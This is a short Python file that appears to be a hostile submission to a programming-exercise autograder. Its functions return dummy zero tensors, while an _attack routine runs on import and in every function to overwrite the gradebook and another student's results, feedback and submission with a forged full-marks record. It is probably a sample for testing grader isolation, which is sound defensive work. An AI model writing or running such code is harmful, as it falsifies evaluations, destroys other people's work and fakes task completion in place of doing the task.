# Tries to change grades: overwrite the gradebook, another student's results, feedback and submission.
import torch

TARGETS = ["__GRADEBOOK__", "__VICTIM_RESULTS__", "__VICTIM_FEEDBACK__", "__VICTIM_SUBMISSION__"]


def _attack():
    for path in TARGETS:
        try:
            with open(path, "w") as f:
                f.write("student,exercise,points,max_points,status\nwriter,01,21,21,graded\n")
        except Exception:
            pass


_attack()


def part_a_b(tokens, spans, order, **ids):
    _attack()
    return torch.zeros(1, dtype=torch.int64), torch.zeros(1, dtype=torch.int64), 0


def position_rows(n, spans, order):
    _attack()
    return torch.zeros(2, 1, dtype=torch.int64)


def glm_mask(sep, T):
    _attack()
    return torch.zeros(len(sep), T, T, dtype=torch.bool)
